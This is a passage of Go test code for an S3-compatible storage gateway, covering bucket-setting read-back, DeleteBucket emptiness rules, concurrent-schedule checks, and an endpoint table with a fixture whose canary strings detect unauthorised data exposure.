			switch o.Kind {
			case "restart":
				f.Restart()
			case "delete":
				resp := f.Do(gw.Root, "DELETE", "/"+w.Bucket, settings[o.Setting].Query, nil, nil)
				if !resp.OK() {
					r.Violation(ck.JoinSig("settings", o.Setting, "delete-failed", fmtResp(resp)), map[string]any{"program": names[:si+1], "response": resp.String()})
					ok = false
				}
				model[o.Setting] = -1
			default:
				di := 0
				if o.Kind == "put1" {
					di = 1
				}
				resp := f.Do(gw.Root, "PUT", "/"+w.Bucket, settings[o.Setting].Query, nil, []byte(settings[o.Setting].Docs[di]))
				if !resp.OK() {
					r.Violation(ck.JoinSig("settings", o.Setting, "valid-put-refused", fmtResp(resp)), map[string]any{"program": names[:si+1], "document": settings[o.Setting].Docs[di], "response": resp.String()})
					ok = false
				}
				model[o.Setting] = di
			}
			if !ok {
				break
			}
			// read every setting back
			for _, n := range []string{"tagging", "policy", "ownership", "versioning"} {
				v, touched := model[n]
				if !touched {
					continue
				}
				resp := f.Do(gw.Root, "GET", "/"+w.Bucket, settings[n].Query, nil, nil)
				r.Add("evaluations", 1)
				body := string(resp.Body)
				if v == -1 {
					gone := !resp.OK() || (n == "tagging" && !strings.Contains(body, "<Key>")) || (n == "ownership" && !strings.Contains(body, "ObjectWriter") && !strings.Contains(body, "BucketOwnerPreferred"))
					if !gone {
						r.Violation(ck.JoinSig("settings", n, "still-readable-after-delete"), map[string]any{"program": names[:si+1], "response": resp.String()})
					}
					continue
				}
				good := resp.OK()
				for _, e := range expectIn[fmt.Sprintf("%s|%d", n, v)] {
					if !strings.Contains(body, e) {
						good = false
					}
				}
				for _, e := range notIn[fmt.Sprintf("%s|%d", n, v)] {
					if strings.Contains(body, e) {
						good = false
					}
				}
				if !good {
					after := "no-restart"
					for _, x := range prog[:si+1] {
						if alpha[x].Kind == "restart" {
							after = "after-restart"
						}
					}
					r.Violation(ck.JoinSig("settings", n, "read-back-differs-from-last-write", after), map[string]any{"program": names[:si+1], "expected_document": settings[n].Docs[v], "response": resp.String()})
				}
			}
		}
		r.Distinct("settings|" + key)
		f.Close()
	}
	r.Outcome("settings-done")
	// DeleteBucket succeeds only on a bucket without objects, directory objects, versions or delete markers
	for _, cfg := range []gw.Opts{{}, {Versioning: true}} {
		if r.ShardI > 0 {
			break
		}
		for _, content := range []string{"empty", "object", "dir-object", "nested-object", "only-old-version", "only-delete-marker", "in-progress-upload"} {
			if !cfg.Versioning && strings.HasPrefix(content, "only-") {
				continue
			}
			f := NewFx("c16d", cfg)
			Must(f.CreateBucket(gw.Root, "delb"), "create")
			if cfg.Versioning {
				Must(f.Do(gw.Root, "PUT", "/delb", "versioning", nil, []byte("<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>")), "versioning")
			}
			switch content {
			case "object":
				Must(f.Put(gw.Root, "delb", "o", []byte("x")), "put")
			case "dir-object":
				Must(f.Put(gw.Root, "delb", "d/", nil), "put dir")
			case "nested-object":
				Must(f.Put(gw.Root, "delb", "a/b/c", []byte("x")), "put nested")
			case "only-old-version", "only-delete-marker":
				p1 := Must(f.Put(gw.Root, "delb", "o", []byte("x")), "put")
				Must(f.Delete(gw.Root, "delb", "o"), "delete → marker")
				if content == "only-old-version" {
					// remove the marker: the old version stays as the only (current) version
					lv := f.Do(gw.Root, "GET", "/delb", "versions", nil, nil)
					ids := xmlAll(lv.Body, "VersionId")
					for _, id := range ids {
						if id != p1.Header.Get("x-amz-version-id") {
							f.Do(gw.Root, "DELETE", gw.ObjPath("delb", "o"), gw.Q("versionId", id), nil, nil)
						}
					}
				} else {
					f.Do(gw.Root, "DELETE", gw.ObjPath("delb", "o"), gw.Q("versionId", p1.Header.Get("x-amz-version-id")), nil, nil)
				}
			case "in-progress-upload":
				Must(f.Do(gw.Root, "POST", gw.ObjPath("delb", "mp"), "uploads", nil, nil), "create mpu")
			}
			lv := f.Do(gw.Root, "GET", "/delb", "versions", nil, nil)
			hasContent := strings.Contains(string(lv.Body), "<Version>") || strings.Contains(string(lv.Body), "<DeleteMarker>")
			resp := f.Do(gw.Root, "DELETE", "/delb", "", nil, nil)
			r.Add("evaluations", 1)
			r.Distinct(fmt.Sprintf("delete-bucket|%v|%s", cfg.Versioning, content))
			if hasContent && resp.OK() {
				r.Violation(ck.JoinSig("delete-bucket", "non-empty-bucket-deleted", content), map[string]any{"content": content, "versions_listing": string(lv.Body), "response": resp.String()})
			}
			if !hasContent && content == "empty" && !resp.OK() {
				r.Violation(ck.JoinSig("delete-bucket", "empty-bucket-not-deletable"), map[string]any{"response": resp.String()})
			}
			f.Close()
		}
	}
}

// (d) schedules: DeleteBucket against concurrent uploads at the backend seam
func c16Schedules(r *ck.Run) {
	bound := 2
	if r.Thorough() {
		bound = 3
	}
	type scn struct {
		Name string
		Prep func(st *pxStore) map[string]string
		Op   func(st *pxStore, c map[string]string) error
		// Acked: after a successful Op, is the acknowledged result still there? (scheduler inactive)
		Acked func(st *pxStore, c map[string]string) (bool, string)
		// Cfgs: storage configurations of this scenario (default: xattr with and without O_TMPFILE)
		Cfgs []pxCfg
	}
	v1 := mkval(1)
	objThere := func(key string) func(st *pxStore, c map[string]string) (bool, string) {
		return func(st *pxStore, c map[string]string) (bool, string) {
			o := st.get(st.B, "dbk", key, []wval{v1})
			if o.Absent || o.Err != "" {
				return false, "GET " + key + ": absent=" + fmt.Sprint(o.Absent) + " " + o.Err
			}
			return o.Body == 1, "body"
		}
	}
	mp := func(st *pxStore) map[string]string {
		res, err := st.A.CreateMultipartUpload(st.ctx(), s3response.CreateMultipartUploadInput{Bucket: sp("dbk"), Key: sp("mk")})
		if err != nil {
			ck.Fatal("mpu: %v", err)
		}
		return map[string]string{"upload": res.UploadId}
	}
	scns := []scn{
		{Name: "DeleteBucket|PutObject", Op: func(st *pxStore, c map[string]string) error { return st.put(st.B, "dbk", "k", v1) }, Acked: objThere("k")},
		{Name: "DeleteBucket|PutObject nested", Op: func(st *pxStore, c map[string]string) error { return st.put(st.B, "dbk", "d1/d2/k", v1) }, Acked: objThere("d1/d2/k")},
		{Name: "DeleteBucket|CreateMultipartUpload", Op: func(st *pxStore, c map[string]string) error {
			res, err := st.B.CreateMultipartUpload(st.ctx(), s3response.CreateMultipartUploadInput{Bucket: sp("dbk"), Key: sp("mk")})
			if err == nil {
				c["upload"] = res.UploadId
			}
			return err
		}},
		{Name: "DeleteBucket|PutBucketTagging", Op: func(st *pxStore, c map[string]string) error {
			return st.B.PutBucketTagging(st.ctx(), "dbk", map[string]string{"t": "v"})
		}},
		{Name: "DeleteBucket|CreateBucket", Op: func(st *pxStore, c map[string]string) error {
			return st.B.CreateBucket(st.ctx(), &s3.CreateBucketInput{Bucket: sp("dbk")}, []byte(`{"Owner":"acc1","Grantees":[]}`))
		}},
		// the name is taken again while the deletion is still finishing: what the new bucket is given (owner, versioning,
		// a preserved version) must not be lost to the tail of the old bucket's deletion
		{Name: "DeleteBucket|CreateBucket and versioned uploads", Cfgs: []pxCfg{{Versioning: true}, {Versioning: true, Sidecar: true}}, Op: func(st *pxStore, c map[string]string) error {
			if err := st.B.CreateBucket(st.ctx(), &s3.CreateBucketInput{Bucket: sp("dbk")}, []byte(`{"Owner":"acc2","Grantees":[]}`)); err != nil {
				return err
			}
			if err := st.B.PutBucketVersioning(st.ctx(), "dbk", types.BucketVersioningStatusEnabled); err != nil {
				return err
			}
			if err := st.put(st.B, "dbk", "k", mkval(0)); err != nil {
				return err
			}
			return st.put(st.B, "dbk", "k", v1)
		}, Acked: func(st *pxStore, c map[string]string) (bool, string) {
			if b, err := st.B.GetBucketAcl(st.ctx(), &s3.GetBucketAclInput{Bucket: sp("dbk")}); err != nil || !strings.Contains(string(b), "acc2") {
				return false, "the new bucket's owner record is gone: " + errShort(err)
			}
			empty := ""
			max := int32(100)
			lv, err := st.B.ListObjectVersions(st.ctx(), &s3.ListObjectVersionsInput{Bucket: sp("dbk"), Prefix: &empty, Delimiter: &empty, KeyMarker: &empty, VersionIdMarker: &empty, MaxKeys: &max})
			if err != nil || len(lv.Versions) != 2 {
				n := -1
				if err == nil {
					n = len(lv.Versions)
				}
				return false, fmt.Sprintf("the new bucket lists %d versions of its two acknowledged uploads: %s", n, errShort(err))
			}
			return true, ""
		}},
	}
	if r.Thorough() {
		scns = append(scns, scn{Name: "DeleteBucket|UploadPart", Prep: mp, Op: func(st *pxStore, c map[string]string) error {
			up := c["upload"]
			_, err := st.B.UploadPart(st.ctx(), &s3.UploadPartInput{Bucket: sp("dbk"), Key: sp("mk"), UploadId: &up, PartNumber: i32(1), Body: bytes.NewReader(v1.Body), ContentLength: i64(int64(len(v1.Body)))})
			return err
		}}, scn{Name: "DeleteBucket|CompleteMultipartUpload", Prep: func(st *pxStore) map[string]string {
			c := mp(st)
			up := c["upload"]
			out, err := st.A.UploadPart(st.ctx(), &s3.UploadPartInput{Bucket: sp("dbk"), Key: sp("mk"), UploadId: &up, PartNumber: i32(1), Body: bytes.NewReader(v1.Body), ContentLength: i64(int64(len(v1.Body)))})
			if err != nil {
				ck.Fatal("part: %v", err)
			}
			c["etag"] = getS(out.ETag)
			return c
		}, Op: func(st *pxStore, c map[string]string) error {
			up, etag := c["upload"], c["etag"]
			pn := int32(1)
			_, err := st.B.CompleteMultipartUpload(st.ctx(), &s3.CompleteMultipartUploadInput{Bucket: sp("dbk"), Key: sp("mk"), UploadId: &up,
				MultipartUpload: &types.CompletedMultipartUpload{Parts: []types.CompletedPart{{PartNumber: &pn, ETag: &etag}}}})
			return err
		}, Acked: objThere("mk")})
	}
	for si, sc := range scns {
		if !r.Mine(si) {
			continue
		}
		cfgs := []pxCfg{{}, {NoTmp: true}}
		if sc.Cfgs != nil {
			cfgs = sc.Cfgs
		}
		for _, cfg := range cfgs {
			st := newPxStore("c16", cfg)
			var delErr, opErr error
			var ctxm map[string]string
			var delCall, delRet, opCall, opRet int
			setup := func() []func() {
				st.wipe()
				st.mkBucket("dbk")
				ctxm = map[string]string{}
				if sc.Prep != nil {
					ctxm = sc.Prep(st)
					// the upload makes the bucket "in use" but not non-empty by the API's definition
				}
				delErr, opErr = nil, nil
				return []func(){
					func() {
						delCall = sched.Clock()
						delErr = st.A.DeleteBucket(context.Background(), "dbk")
						delRet = sched.Clock()
					},
					func() {
						opCall = sched.Clock()
						opErr = sc.Op(st, ctxm)
						opRet = sched.Clock()
					},
				}
			}
			check := func(x *sched.Exec) {
				r.Add("evaluations", 1)
				r.Add("transitions", int64(len(x.Points)))
				r.Distinct(fmt.Sprintf("sched|%s|%s|%v", sc.Name, cfg, x.Choices))
				detail := func(what string) map[string]any {
					var trace []string
					for i, p := range x.Points {
						trace = append(trace, fmt.Sprintf("%d T%d %s", i, p.Thread, sched.Canon(strings.ReplaceAll(p.Label, st.Dir, ""))))
					}
					return map[string]any{"scenario": sc.Name, "config": cfg.String(), "what": what, "delete_error": fmt.Sprint(delErr), "upload_error": fmt.Sprint(opErr), "choices": x.Choices, "schedule": trace}
				}
				if x.Deadlock || x.Horizon || len(x.Panics) > 0 {
					r.Violation(ck.JoinSig("schedule", sc.Name, "deadlock-or-panic"), detail(fmt.Sprint(x.Panics)))
					return
				}
				out := fmt.Sprintf("delete=%s upload=%s", errShort(delErr), errShort(opErr))
				r.Outcome(sc.Name + " " + out)
				// a refused upload or a refused delete is always fine (whatever the error says); what must not
				// happen: an acknowledged object upload that is gone, or a bucket that still exists — possibly
				// without its ACL — after an acknowledged delete
				if opErr == nil && sc.Acked != nil {
					if ok, why := sc.Acked(st, ctxm); !ok {
						order := "overlapping"
						if opRet < delCall {
							order = "upload-finished-before-delete-started"
						}
						r.Violation(ck.JoinSig("schedule", sc.Name, "acknowledged-upload-lost", order), detail(why))
					}
				}
				_ = delRet
				_ = opCall
				if _, err := st.B.HeadBucket(st.ctx(), &s3.HeadBucketInput{Bucket: sp("dbk")}); err == nil && delErr == nil {
					kind := "bucket-exists-after-acknowledged-delete"
					if b, err := st.B.GetBucketAcl(st.ctx(), &s3.GetBucketAclInput{Bucket: sp("dbk")}); err != nil || len(b) == 0 {
						kind += "-without-acl"
					}
					if strings.HasPrefix(sc.Name, "DeleteBucket|CreateBucket") && opErr == nil && opCall > delRet {
						// created again after the delete had finished: legitimate
					} else if strings.HasPrefix(sc.Name, "DeleteBucket|CreateBucket") && opErr == nil && !strings.HasSuffix(kind, "without-acl") {
						// both acknowledged, the new bucket is complete: explainable as delete-then-create
					} else {
						r.Violation(ck.JoinSig("schedule", sc.Name, kind), detail(out))
					}
				}
			}
			ex := &sched.Explorer{Bound: bound, Setup: setup, Check: check}
			ex.Explore()
			r.Add("schedules", ex.Execs)
			st.Close()
		}
	}
}

func errShort(err error) string {
	if err == nil {
		return "ok"
	}
	return errClassAPI(err)
}
