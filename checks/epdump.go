package checks

import (
	"fmt"

	"verif/ck"
	"verif/gw"
)

func init() { Registry["EPDUMP"] = epDump }

// epDump (debug aid): sends every endpoint's valid request as root and as owner on fresh worlds.
func epDump(r *ck.Run) {
	for _, o := range []gw.Opts{{}, {Versioning: true}} {
		for _, c := range []gw.Creds{gw.Root, cUsr1} {
			for _, ep := range Endpoints() {
				w := NewWorld("epd", o)
				if ep.ID == "ListBuckets" {
					RouteGuard(w)
				}
				if !ep.Applicable(w) {
					w.Close()
					continue
				}
				req := ep.Build(w, "")
				gw.Sign(req, c, gw.SignOpts{})
				resp := w.F.G.Do(req)
				fmt.Printf("ver=%v %-5s %-30s %-6s %-40s -> %s\n", o.Versioning, c.Access[:4], ep.ID, req.Method, ck.Short(req.Path+"?"+req.Query, 40), ck.Short(resp.String(), 90))
				w.Close()
			}
		}
	}
	r.Add("evaluations", 1)
}
