package checks

import (
	"fmt"
	"sort"
	"strings"
	"time"

	"verif/ck"
	"verif/gw"
)

// World is the fixture the endpoint-table checks run against.
type World struct {
	F        *Fx
	Bucket   string // owned by usr1; objects obj1, dir/obj2, locked (versioned lock bucket is separate)
	Other    string // owned by usr2
	LockBkt  string // object-lock bucket owned by usr1
	Key      string
	Key2     string
	UploadID string // in-progress upload on MpKey with part 1
	MpKey    string
	PartETag string
	Users    map[string]gw.Creds
}

var (
	cAdm  = gw.Creds{Access: "adm1", Secret: "adm1secretadm1secret"}
	cUp   = gw.Creds{Access: "up1", Secret: "up1secretup1secretxx"}
	cUsr1 = gw.Creds{Access: "usr1", Secret: "usr1secretusr1secret"}
	cUsr2 = gw.Creds{Access: "usr2", Secret: "usr2secretusr2secret"}
	cUsr3 = gw.Creds{Access: "usr3", Secret: "usr3secretusr3secret"}
)

const (
	canaryObj1   = "CANARY-OBJ1-7f3a9"
	canaryObj2   = "CANARY-OBJ2-1b8c4"
	canaryOther  = "CANARY-OTHER-55e0d"
	canaryTagVal = "CANARYTAG-92ac1"
	canaryPart   = "CANARY-PART-0c77e"
)

func xmlUser(c gw.Creds, role string, uid, gid int) []byte {
	return []byte(fmt.Sprintf("<Account><Access>%s</Access><Secret>%s</Secret><Role>%s</Role><UserID>%d</UserID><GroupID>%d</GroupID></Account>", c.Access, c.Secret, role, uid, gid))
}

// NewWorld builds the fixture on a fresh gateway with the given options.
func NewWorld(tag string, o gw.Opts) *World {
	f := NewFx(tag, o)
	w := &World{F: f, Bucket: "bk-main", Other: "bk-other", LockBkt: "bk-lock", Key: "obj1", Key2: "dir/obj2", MpKey: "mpk",
		Users: map[string]gw.Creds{"root": gw.Root, "adm1": cAdm, "up1": cUp, "usr1": cUsr1, "usr2": cUsr2, "usr3": cUsr3}}
	w.populate()
	return w
}

func (w *World) populate() {
	f := w.F
	Must(f.Do(gw.Root, "PATCH", "/create-user", "", nil, xmlUser(cAdm, "admin", 0, 0)), "create adm1")
	Must(f.Do(gw.Root, "PATCH", "/create-user", "", nil, xmlUser(cUp, "userplus", 0, 0)), "create up1")
	Must(f.Do(gw.Root, "PATCH", "/create-user", "", nil, xmlUser(cUsr1, "user", 0, 0)), "create usr1")
	Must(f.Do(gw.Root, "PATCH", "/create-user", "", nil, xmlUser(cUsr2, "user", 0, 0)), "create usr2")
	Must(f.Do(gw.Root, "PATCH", "/create-user", "", nil, xmlUser(cUsr3, "user", 0, 0)), "create usr3")
	Must(f.CreateBucket(gw.Root, w.Bucket, "x-amz-object-ownership", "BucketOwnerPreferred"), "create bucket")
	Must(f.CreateBucket(gw.Root, w.Other), "create other")
	Must(f.Do(gw.Root, "PATCH", "/change-bucket-owner", gw.Q("bucket", w.Bucket, "owner", "usr1"), nil, nil), "chown main")
	Must(f.Do(gw.Root, "PATCH", "/change-bucket-owner", gw.Q("bucket", w.Other, "owner", "usr2"), nil, nil), "chown other")
	Must(f.Put(gw.Root, w.Bucket, w.Key, []byte(canaryObj1+" body of obj1"), "x-amz-meta-color", "blue", "x-amz-tagging", "tk="+canaryTagVal, "Content-Type", "text/plain"), "put obj1")
	Must(f.Put(gw.Root, w.Bucket, w.Key2, []byte(canaryObj2+" body of obj2")), "put obj2")
	Must(f.Put(gw.Root, w.Other, "secret", []byte(canaryOther+" other tenant data")), "put secret")
	Must(f.Do(gw.Root, "PUT", "/"+w.Bucket, "tagging", nil, []byte("<Tagging><TagSet><Tag><Key>bt</Key><Value>"+canaryTagVal+"</Value></Tag></TagSet></Tagging>")), "bucket tagging")
	resp := Must(f.Do(gw.Root, "POST", gw.ObjPath(w.Bucket, w.MpKey), "uploads", nil, nil), "create mpu")
	w.UploadID = xmlFieldS(resp.Body, "UploadId")
	if w.UploadID == "" {
		ck.Fatal("no upload id in %s", resp)
	}
	pr := Must(f.Do(gw.Root, "PUT", gw.ObjPath(w.Bucket, w.MpKey), gw.Q("uploadId", w.UploadID, "partNumber", "1"), nil, []byte(canaryPart+" part one")), "upload part")
	w.PartETag = pr.Header.Get("ETag")
	if w.F.G.Opts.Versioning {
		Must(f.CreateBucket(gw.Root, w.LockBkt, "x-amz-bucket-object-lock-enabled", "true"), "create lock bucket")
		Must(f.Do(gw.Root, "PATCH", "/change-bucket-owner", gw.Q("bucket", w.LockBkt, "owner", "usr1"), nil, nil), "chown lock")
		Must(f.Put(gw.Root, w.LockBkt, "locked", []byte("locked body")), "put locked")
	}
}

func xmlFieldS(b []byte, name string) string {
	open, cl := "<"+name+">", "</"+name+">"
	s := string(b)
	i := strings.Index(s, open)
	if i < 0 {
		return ""
	}
	j := strings.Index(s[i:], cl)
	if j < 0 {
		return ""
	}
	return s[i+len(open) : i+j]
}

func (w *World) Close() { w.F.Close() }

// Canaries lists strings that must never appear in a response to an
// unauthenticated / unauthorised request.
func (w *World) Canaries() []string {
	return []string{canaryObj1, canaryObj2, canaryOther, canaryTagVal, canaryPart}
}

// EP is one endpoint shape of the S3 / admin API.
type EP struct {
	ID       string
	Method   string
	Level    string // service | bucket | object | admin
	Query    func(w *World) string
	Headers  func(w *World) [][2]string
	Body     func(w *World) []byte
	Key      func(w *World) string // object key used (default w.Key)
	Mutating bool
	Action   string   // policy action
	Perms    []string // ACL permissions any of which suffices (READ WRITE READ_ACP WRITE_ACP); nil: owner/admin only
	ObjRes   bool     // policy resource is bucket/key (else bucket)
	BigData  bool     // PUT with deferred (streaming) authentication
	Needs    string   // "versioning" if it only makes sense with a versioning dir
	OwnBkt   string   // "new": targets a bucket that does not exist yet
}

func q(s string) func(*World) string { return func(*World) string { return s } }
func body(s string) func(*World) []byte {
	return func(*World) []byte { return []byte(s) }
}

const retainDate = "2035-01-01T00:00:00Z"

// Endpoints is the table: every route × sub-resource of s3api/router.go and
// the controller's query switches, each with a valid request template.
func Endpoints() []EP {
	upQ := func(w *World) string { return gw.Q("uploadId", w.UploadID) }
	mp := func(w *World) string { return w.MpKey }
	eps := []EP{
		{ID: "ListBuckets", Method: "GET", Level: "service"},
		// bucket PUT
		{ID: "CreateBucket", Method: "PUT", Level: "bucket", Mutating: true, OwnBkt: "new", Action: "s3:CreateBucket"},
		{ID: "PutBucketTagging", Method: "PUT", Level: "bucket", Query: q("tagging"), Mutating: true, Action: "s3:PutBucketTagging", Perms: []string{"WRITE"},
			Body: body("<Tagging><TagSet><Tag><Key>k1</Key><Value>v1</Value></Tag></TagSet></Tagging>")},
		{ID: "PutBucketOwnershipControls", Method: "PUT", Level: "bucket", Query: q("ownershipControls"), Mutating: true, Action: "s3:PutBucketOwnershipControls", Perms: []string{"WRITE"},
			Body: body("<OwnershipControls><Rule><ObjectOwnership>BucketOwnerPreferred</ObjectOwnership></Rule></OwnershipControls>")},
		{ID: "PutBucketVersioning", Method: "PUT", Level: "bucket", Query: q("versioning"), Mutating: true, Action: "s3:PutBucketVersioning", Perms: []string{"WRITE"}, Needs: "versioning",
			Body: body("<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>")},
		{ID: "PutObjectLockConfiguration", Method: "PUT", Level: "bucket", Query: q("object-lock"), Mutating: true, Action: "s3:PutBucketObjectLockConfiguration", Perms: []string{"WRITE"}, Needs: "lockbucket",
			Body: body("<ObjectLockConfiguration><ObjectLockEnabled>Enabled</ObjectLockEnabled><Rule><DefaultRetention><Mode>GOVERNANCE</Mode><Days>1</Days></DefaultRetention></Rule></ObjectLockConfiguration>")},
		{ID: "PutBucketCors", Method: "PUT", Level: "bucket", Query: q("cors"), Mutating: true, Action: "s3:PutBucketCORS", Perms: []string{"WRITE"},
			Body: body("<CORSConfiguration><CORSRule><AllowedMethod>GET</AllowedMethod><AllowedOrigin>*</AllowedOrigin></CORSRule></CORSConfiguration>")},
		{ID: "PutBucketPolicy", Method: "PUT", Level: "bucket", Query: q("policy"), Mutating: true, Action: "s3:PutBucketPolicy", Perms: []string{"WRITE"},
			Body: func(w *World) []byte {
				return []byte(fmt.Sprintf(`{"Statement":[{"Effect":"Allow","Principal":"usr3","Action":"s3:GetObject","Resource":"arn:aws:s3:::%s/*"}]}`, w.Bucket))
			}},
		{ID: "PutBucketAcl", Method: "PUT", Level: "bucket", Query: q("acl"), Mutating: true, Action: "s3:PutBucketAcl", Perms: []string{"WRITE_ACP"},
			Headers: func(w *World) [][2]string { return H("x-amz-grant-read", "usr3") }},
		// bucket GET
		{ID: "GetBucketTagging", Method: "GET", Level: "bucket", Query: q("tagging"), Action: "s3:GetBucketTagging", Perms: []string{"READ"}},
		{ID: "GetBucketOwnershipControls", Method: "GET", Level: "bucket", Query: q("ownershipControls"), Action: "s3:GetBucketOwnershipControls", Perms: []string{"READ"}},
		{ID: "GetBucketVersioning", Method: "GET", Level: "bucket", Query: q("versioning"), Action: "s3:GetBucketVersioning", Perms: []string{"READ"}},
		{ID: "GetBucketPolicy", Method: "GET", Level: "bucket", Query: q("policy"), Action: "s3:GetBucketPolicy", Perms: []string{"READ"}},
		{ID: "GetBucketCors", Method: "GET", Level: "bucket", Query: q("cors"), Action: "s3:GetBucketCORS", Perms: []string{"READ"}},
		{ID: "ListObjectVersions", Method: "GET", Level: "bucket", Query: q("versions"), Action: "s3:ListBucketVersions", Perms: []string{"READ"}},
		{ID: "GetObjectLockConfiguration", Method: "GET", Level: "bucket", Query: q("object-lock"), Action: "s3:GetBucketObjectLockConfiguration", Perms: []string{"READ"}},
		{ID: "GetBucketAcl", Method: "GET", Level: "bucket", Query: q("acl"), Action: "s3:GetBucketAcl", Perms: []string{"READ_ACP"}},
		{ID: "ListMultipartUploads", Method: "GET", Level: "bucket", Query: q("uploads"), Action: "s3:ListBucketMultipartUploads", Perms: []string{"READ"}},
		{ID: "ListObjectsV2", Method: "GET", Level: "bucket", Query: q("list-type=2"), Action: "s3:ListBucket", Perms: []string{"READ"}},
		{ID: "ListObjects", Method: "GET", Level: "bucket", Action: "s3:ListBucket", Perms: []string{"READ"}},
		// bucket DELETE / HEAD / POST
		{ID: "DeleteBucketTagging", Method: "DELETE", Level: "bucket", Query: q("tagging"), Mutating: true, Action: "s3:PutBucketTagging", Perms: []string{"WRITE"}},
		{ID: "DeleteBucketOwnershipControls", Method: "DELETE", Level: "bucket", Query: q("ownershipControls"), Mutating: true, Action: "s3:PutBucketOwnershipControls", Perms: []string{"WRITE"}},
		{ID: "DeleteBucketPolicy", Method: "DELETE", Level: "bucket", Query: q("policy"), Mutating: true, Action: "s3:DeleteBucketPolicy", Perms: []string{"WRITE"}},
		{ID: "DeleteBucketCors", Method: "DELETE", Level: "bucket", Query: q("cors"), Mutating: true, Action: "s3:PutBucketCORS", Perms: []string{"WRITE"}},
		{ID: "DeleteBucket", Method: "DELETE", Level: "bucket", Mutating: true, Action: "s3:DeleteBucket", Perms: []string{"WRITE"}},
		{ID: "HeadBucket", Method: "HEAD", Level: "bucket", Action: "s3:ListBucket", Perms: []string{"READ"}},
		{ID: "DeleteObjects", Method: "POST", Level: "bucket", Query: q("delete"), Mutating: true, Action: "s3:DeleteObject", Perms: []string{"WRITE"}, ObjRes: true,
			Body: func(w *World) []byte {
				return []byte("<Delete><Object><Key>" + w.Key + "</Key></Object></Delete>")
			}},
		// object GET / HEAD
		{ID: "GetObjectTagging", Method: "GET", Level: "object", Query: q("tagging"), Action: "s3:GetObjectTagging", Perms: []string{"READ"}, ObjRes: true},
		{ID: "GetObjectRetention", Method: "GET", Level: "object", Query: q("retention"), Action: "s3:GetObjectRetention", Perms: []string{"READ"}, ObjRes: true},
		{ID: "GetObjectLegalHold", Method: "GET", Level: "object", Query: q("legal-hold"), Action: "s3:GetObjectLegalHold", Perms: []string{"READ"}, ObjRes: true},
		{ID: "ListParts", Method: "GET", Level: "object", Query: upQ, Key: mp, Action: "s3:ListMultipartUploadParts", Perms: []string{"READ"}, ObjRes: true},
		{ID: "GetObjectAcl", Method: "GET", Level: "object", Query: q("acl"), Action: "s3:GetObjectAcl", Perms: []string{"READ_ACP"}, ObjRes: true},
		{ID: "GetObjectAttributes", Method: "GET", Level: "object", Query: q("attributes"), Action: "s3:GetObjectAttributes", Perms: []string{"READ"}, ObjRes: true,
			Headers: func(w *World) [][2]string { return H("x-amz-object-attributes", "ETag,ObjectSize") }},
		{ID: "GetObject", Method: "GET", Level: "object", Action: "s3:GetObject", Perms: []string{"READ"}, ObjRes: true},
		{ID: "HeadObject", Method: "HEAD", Level: "object", Action: "s3:GetObject", Perms: []string{"READ"}, ObjRes: true},
		// object PUT
		{ID: "PutObjectTagging", Method: "PUT", Level: "object", Query: q("tagging"), Mutating: true, Action: "s3:PutObjectTagging", Perms: []string{"WRITE"}, ObjRes: true,
			Body: body("<Tagging><TagSet><Tag><Key>ok</Key><Value>ov</Value></Tag></TagSet></Tagging>")},
		{ID: "PutObjectRetention", Method: "PUT", Level: "object", Query: q("retention"), Mutating: true, Action: "s3:PutObjectRetention", Perms: []string{"WRITE"}, ObjRes: true, Needs: "lockbucket",
			Body: body("<Retention><Mode>GOVERNANCE</Mode><RetainUntilDate>" + retainDate + "</RetainUntilDate></Retention>")},
		{ID: "PutObjectLegalHold", Method: "PUT", Level: "object", Query: q("legal-hold"), Mutating: true, Action: "s3:PutObjectLegalHold", Perms: []string{"WRITE"}, ObjRes: true, Needs: "lockbucket",
			Body: body("<LegalHold><Status>ON</Status></LegalHold>")},
		{ID: "UploadPartCopy", Method: "PUT", Level: "object", Key: mp, Mutating: true, Action: "s3:PutObject", Perms: []string{"WRITE"}, ObjRes: true,
			Query:   func(w *World) string { return gw.Q("uploadId", w.UploadID, "partNumber", "2") },
			Headers: func(w *World) [][2]string { return H("x-amz-copy-source", w.Bucket+"/"+w.Key) }},
		{ID: "UploadPart", Method: "PUT", Level: "object", Key: mp, Mutating: true, Action: "s3:PutObject", Perms: []string{"WRITE"}, ObjRes: true, BigData: true,
			Query: func(w *World) string { return gw.Q("uploadId", w.UploadID, "partNumber", "3") },
			Body:  body("part three data")},
		{ID: "PutObjectAcl", Method: "PUT", Level: "object", Query: q("acl"), Mutating: true, Action: "s3:PutObjectAcl", Perms: []string{"WRITE_ACP"}, ObjRes: true,
			Headers: func(w *World) [][2]string { return H("x-amz-acl", "public-read") }},
		{ID: "CopyObject", Method: "PUT", Level: "object", Key: func(*World) string { return "copied" }, Mutating: true, Action: "s3:PutObject", Perms: []string{"WRITE"}, ObjRes: true,
			Headers: func(w *World) [][2]string { return H("x-amz-copy-source", w.Bucket+"/"+w.Key) }},
		{ID: "PutObject", Method: "PUT", Level: "object", Key: func(*World) string { return "newobj" }, Mutating: true, Action: "s3:PutObject", Perms: []string{"WRITE"}, ObjRes: true, BigData: true,
			Body: body("new object data")},
		{ID: "PutObjectOverwrite", Method: "PUT", Level: "object", Mutating: true, Action: "s3:PutObject", Perms: []string{"WRITE"}, ObjRes: true, BigData: true,
			Body: body("overwriting data")},
		{ID: "PutDirObject", Method: "PUT", Level: "object", Key: func(*World) string { return "newdir/" }, Mutating: true, Action: "s3:PutObject", Perms: []string{"WRITE"}, ObjRes: true, BigData: true},
		// object DELETE
		{ID: "DeleteObjectTagging", Method: "DELETE", Level: "object", Query: q("tagging"), Mutating: true, Action: "s3:DeleteObjectTagging", Perms: []string{"WRITE"}, ObjRes: true},
		{ID: "AbortMultipartUpload", Method: "DELETE", Level: "object", Query: upQ, Key: mp, Mutating: true, Action: "s3:AbortMultipartUpload", Perms: []string{"WRITE"}, ObjRes: true},
		{ID: "DeleteObject", Method: "DELETE", Level: "object", Mutating: true, Action: "s3:DeleteObject", Perms: []string{"WRITE"}, ObjRes: true},
		// object POST
		{ID: "RestoreObject", Method: "POST", Level: "object", Query: q("restore"), Mutating: true, Action: "s3:RestoreObject", Perms: []string{"WRITE"}, ObjRes: true,
			Body: body("<RestoreRequest><Days>1</Days></RestoreRequest>")},
		{ID: "SelectObjectContent", Method: "POST", Level: "object", Query: q("select&select-type=2"), Action: "s3:GetObject", Perms: []string{"READ"}, ObjRes: true,
